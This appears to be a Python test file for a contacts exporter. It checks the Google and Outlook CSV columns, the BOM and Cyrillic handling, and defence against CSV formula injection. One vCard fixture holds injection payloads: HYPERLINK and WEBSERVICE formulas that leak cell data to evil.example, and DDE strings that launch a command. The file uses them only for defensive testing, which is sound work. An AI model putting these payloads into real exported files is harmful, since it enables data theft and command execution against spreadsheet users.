"""Google Contacts and Outlook CSV: their exact columns, UTF-8 with BOM, Cyrillic intact."""

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from models import Contact
from pipeline.book.editing import edit_contact
from pipeline.formats.csv_formats import GOOGLE_FIXED, OUTLOOK_COLUMNS, google_csv, inert, outlook_csv
from pipeline.formats.importing import import_vcards
from pipeline.formats.record import build_record, select_contacts

from .people import make_petrov, make_smith


def _rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    assert text.startswith("\ufeff") and "\r\n" in text
    data = text.encode("utf-8").decode("utf-8-sig")  # what Excel and the importers do with the BOM
    reader = csv.DictReader(io.StringIO(data, newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def test_google_csv(session: Session) -> None:
    make_petrov(session)
    make_smith(session)
    header, (petrov, smith) = _rows(google_csv(build_record(c) for c in select_contacts(session)))
    assert tuple(header[: len(GOOGLE_FIXED)]) == GOOGLE_FIXED
    assert header[len(GOOGLE_FIXED):len(GOOGLE_FIXED) + 4] == ["E-mail 1 - Label", "E-mail 1 - Value",
                                                               "E-mail 2 - Label", "E-mail 2 - Value"]
    assert "Phone 3 - Value" in header and "Address 1 - Formatted" in header and "Website 1 - Value" in header
    assert (petrov["First Name"], petrov["Middle Name"], petrov["Last Name"]) == ("Иван", "Сергеевич", "Петров")
    assert petrov["Nickname"] == "Ivan Petrov"
    assert (petrov["Organization Name"], petrov["Organization Department"]) == ("ООО «Ромашка»", "Отдел продаж")
    assert petrov["Organization Title"] == "Директор по развитию; регионы, филиалы"
    assert petrov["Birthday"] == "--05-17" and smith["Birthday"] == "1980-02-29"
    assert petrov["Notes"] == "Хочет прайс-лист;\nзвонить после 18:00, не раньше"
    assert petrov["Labels"] == "* myContacts ::: яхты ::: логистика"
    phones = {petrov[f"Phone {i} - Value"]: petrov[f"Phone {i} - Label"] for i in (1, 2, 3)}
    assert phones == {"+7 916 123-45-67": "* Mobile", "+7 495 123-45-67 ext. 123": "Work",
                      "+7 495 123-45-68": "Work Fax"}
    assert petrov["Address 1 - Formatted"] == "г. Москва, ул. Ленина, д. 1, офис 5"
    assert smith["E-mail 1 - Value"] == "jane@globex.com" and smith["E-mail 2 - Value"] == ""


def test_outlook_csv(session: Session) -> None:
    make_petrov(session)
    make_smith(session)
    header, (petrov, smith) = _rows(outlook_csv(build_record(c) for c in select_contacts(session)))
    assert tuple(header) == OUTLOOK_COLUMNS and len(header) == 92
    assert (petrov["First Name"], petrov["Middle Name"], petrov["Last Name"]) == ("Иван", "Сергеевич", "Петров")
    assert (petrov["Company"], petrov["Department"]) == ("ООО «Ромашка»", "Отдел продаж")
    assert petrov["Mobile Phone"] == petrov["Primary Phone"] == "+7 916 123-45-67"
    assert petrov["Business Phone"] == "+7 495 123-45-67 ext. 123"
    assert petrov["Business Fax"] == "+7 495 123-45-68"
    assert (petrov["E-mail Address"], petrov["E-mail Type"]) == ("ivan.petrov@romashka.ru", "SMTP")
    assert petrov["E-mail 2 Address"] == "ivan@romashka.com"
    assert petrov["Birthday"] == ""  # Outlook has no birthday without a year
    assert smith["Birthday"] == "02/29/1980"
    assert petrov["Categories"] == "яхты;логистика"
    assert petrov["Business Street"] == "г. Москва, ул. Ленина, д. 1, офис 5"
    assert petrov["Web Page"] == "https://romashka.ru"


HOSTILE_VCARD = """BEGIN:VCARD\r
VERSION:3.0\r
N:=HYPERLINK("http://evil.example/?"&A1\\;"Petrov");Ivan;;;\r
FN:Ivan =HYPERLINK("http://evil.example/?"&A1\\,"Petrov")\r
ORG:+cmd|' /C calc'!A0;-2+3\r
TITLE:@SUM(1+1)*cmd|' /C calc'!A0\r
TEL;TYPE=CELL:+7 916 765-43-21\r
EMAIL:victim@example.org\r
URL:=WEBSERVICE("http://evil.example/")\r
END:VCARD\r
"""
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_are_never_formulas_but_phones_stay_numbers(session: Session, tmp_path: Path) -> None:
    """OWASP CSV injection: an imported vCard's fields become text cells; a phone keeps its plus."""
    vcf = tmp_path / "hostile.vcf"
    vcf.write_text(HOSTILE_VCARD, encoding="utf-8")
    (card,) = import_vcards(session, vcf)
    contact = session.get(Contact, card.contact_id)
    assert contact is not None
    edit_contact(session, contact, {"notes": "=1+1\n\tpaste me"})  # and a hand edit
    records = [build_record(c) for c in select_contacts(session)]
    for text, phone_cols in ((google_csv(records), ["Phone 1 - Value"]),
                             (outlook_csv(records), ["Mobile Phone"])):
        _, (row,) = _rows(text)
        for column, cell in row.items():
            if column in phone_cols:
                assert cell == "+7 916 765-43-21"  # as Google and Outlook read a number: no apostrophe
            else:
                assert not cell.startswith(FORMULA), (column, cell)
        company = row.get("Organization Name", row.get("Company"))
        assert company == "'+cmd|' /C calc'!A0"  # the apostrophe, and the text exactly as it was
        assert row.get("Organization Title", row.get("Job Title")) == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row.get("Organization Department", row.get("Department")) == "'-2+3"
        assert row["Notes"] == "'=1+1\n\tpaste me"
    _, (google,) = _rows(google_csv(records))
    assert google["Last Name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Petrov\")"
    assert google["Website 1 - Value"] == "'=WEBSERVICE(\"http://evil.example/\")"


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "+7 495 CALL", "+1 555 0100 ext. 1)",
                                  "--1+1"])
def test_inert_quotes_what_a_spreadsheet_would_evaluate(cell: str) -> None:
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+7 495 123-45-67", "+1 415-555-0123 ext. 12", "Ivan", "ООО «Ромашка»", "1+1", "",
                                  "--05-17"])
def test_inert_leaves_text_and_phones_alone(cell: str) -> None:
    assert inert(cell) == cell
